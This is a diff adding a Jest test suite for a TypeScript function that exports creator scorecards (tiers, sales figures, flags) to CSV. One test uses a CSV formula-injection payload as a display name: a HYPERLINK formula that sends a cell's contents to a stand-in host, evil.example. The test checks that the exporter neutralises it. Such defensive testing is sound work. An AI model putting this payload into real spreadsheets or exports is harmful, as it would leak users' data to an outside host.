@@ -1,0 +1,139 @@
+import Papa from 'papaparse';
+import { scorecardExportRows } from './scorecard-columns';
+import { SCORECARD_CSV_HEADER, scorecardsToCsv } from './scorecard-csv';
+import { scorecard, suggestion } from './test-scorecards';
+
+const HEADER =
+  'Creator ID,Handle,Display name,Followers,Current tier,Suggested tier,Suggestion reason,' +
+  'Agreed posts per week,Posts,Output rate,GMV,Orders,Clicks,Conversion rate,Revenue per post,' +
+  'Est. commission,Commission-to-revenue,Hook retention,Repeat purchase rate,Samples received,' +
+  'Net contribution,Last post date,Flags';
+
+function lines(csv: string): string[] {
+  return csv.slice(1).split('\r\n');
+}
+
+describe('scorecardsToCsv', () => {
+  it('starts with a UTF-8 BOM and the exact header line', () => {
+    const csv = scorecardsToCsv([]);
+    expect(csv.charCodeAt(0)).toBe(0xfeff);
+    expect(SCORECARD_CSV_HEADER).toBe(HEADER);
+    expect(csv).toBe(`\uFEFF${HEADER}\r\n`);
+  });
+
+  it('writes plain numbers, fractions, ISO dates, tier names and flags', () => {
+    const card = scorecard({
+      flags: [
+        { kind: 'low-conversion', conversionRate: 0.034, orders: 41, clicks: 1200, threshold: 0.05 },
+        {
+          kind: 'revenue-per-post-outlier',
+          direction: 'above',
+          revenuePerPost: 154.31,
+          tier: 'tier1',
+          tierAverage: 60,
+          factor: 2.57,
+          threshold: 2,
+          peers: 9,
+        },
+      ],
+      complianceFlagged: true,
+    });
+    const rows = scorecardExportRows([card], [suggestion()], () => ({ handleDisplay: 'GlowWithMia' }));
+    const [, line] = lines(scorecardsToCsv(rows));
+    expect(line).toBe(
+      '7001,GlowWithMia,Mia Chen,45200,Tier 1,Tier 2,' +
+        '"Posted in 12 of the last 13 weeks, revenue per post of $154.31 over 90 days is above the Tier 1 median of $80, and no compliance flag.",' +
+        '3,8,0.666667,1234.5,41,1200,0.034,154.31,185.18,0.15,0.31,0.12,2,1009.32,2026-11-18,' +
+        'Low conversion; Revenue per post high; Compliance flag',
+    );
+  });
+
+  it('leaves unknowns empty (never 0) and writes Prospect', () => {
+    const card = scorecard({
+      creatorKey: 'h:newbie',
+      handle: 'newbie',
+      displayName: null,
+      followers: null,
+      acceptedTier: null,
+      agreedPostsPerWeek: null,
+      outputRate: null,
+      posts: 0,
+      gmv: null,
+      orders: null,
+      clicks: null,
+      conversionRate: null,
+      revenuePerPost: null,
+      commission: null,
+      commissionToRevenue: null,
+      hookRetention: null,
+      repeatPurchaseRate: null,
+      samplesReceived: 0,
+      netContribution: null,
+      lastPostDay: null,
+    });
+    const initial = suggestion({
+      creatorKey: 'h:newbie',
+      kind: 'initial',
+      fromTier: null,
+      toTier: 'prospect',
+      reason: "3.2K followers is under the Tier 1 band's 5K: a prospect at most.",
+    });
+    const [, line] = lines(scorecardsToCsv(scorecardExportRows([card], [initial])));
+    expect(line).toBe(",newbie,,,,Prospect,3.2K followers is under the Tier 1 band's 5K: a prospect at most.,,0,,,,,,,,,,,0,,,");
+    expect(line?.split(',')).toHaveLength(23);
+  });
+
+  it('does not export dismissed suggestions', () => {
+    const rows = scorecardExportRows([scorecard()], [suggestion({ dismissed: true })]);
+    const [, line] = lines(scorecardsToCsv(rows));
+    expect(line?.startsWith('7001,glowwithmia,Mia Chen,45200,Tier 1,,,3,')).toBe(true);
+  });
+
+  it('neutralises a hostile display name but keeps negative numbers numeric', () => {
+    const card = scorecard({
+      displayName: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
+      handle: '-mia',
+      netContribution: -250.456,
+      gmv: -0.5,
+    });
+    const csv = scorecardsToCsv(scorecardExportRows([card], []));
+    const parsed = Papa.parse<string[]>(csv.slice(1), { header: false, delimiter: ',', skipEmptyLines: true }).data;
+    const [header, row] = parsed;
+    const cell = (name: string) => row?.[header!.indexOf(name)];
+    expect(cell('Display name')).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click me")`);
+    expect(cell('Handle')).toBe("'-mia");
+    expect(cell('Net contribution')).toBe('-250.46');
+    expect(cell('GMV')).toBe('-0.5');
+    expect(lines(csv)[1]).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")"`);
+  });
+
+  it('keeps every row in the scorecards order, one line each even with line breaks in names', () => {
+    const cards = [
+      scorecard({ creatorKey: 'id:1', displayName: 'Line\nbreak' }),
+      scorecard({ creatorKey: 'id:2', displayName: 'Comma, Name' }),
+    ];
+    const csv = scorecardsToCsv(scorecardExportRows(cards, []));
+    const parsed = Papa.parse<string[]>(csv.slice(1), { header: false, delimiter: ',', skipEmptyLines: true }).data;
+    expect(parsed.map((r) => [r[0], r[2]])).toEqual([
+      ['Creator ID', 'Display name'],
+      ['1', 'Line\nbreak'],
+      ['2', 'Comma, Name'],
+    ]);
+  });
+
+  it('writes 5,000 scorecards well within the 300 ms budget', () => {
+    const cards = Array.from({ length: 5000 }, (_, i) =>
+      scorecard({
+        creatorKey: `id:${i}`,
+        displayName: `Creator ${i}`,
+        flags: i % 3 === 0 ? [{ kind: 'low-hook-retention', hookRetention: 0.2, videos: 3, threshold: 0.25 }] : [],
+      }),
+    );
+    const rows = scorecardExportRows(cards, []);
+    const started = performance.now();
+    const csv = scorecardsToCsv(rows);
+    const elapsed = performance.now() - started;
+    expect(lines(csv)).toHaveLength(5002); // header, 5,000 rows, and the empty string after the last CRLF
+    expect(elapsed).toBeLessThan(300);
+  });
+});
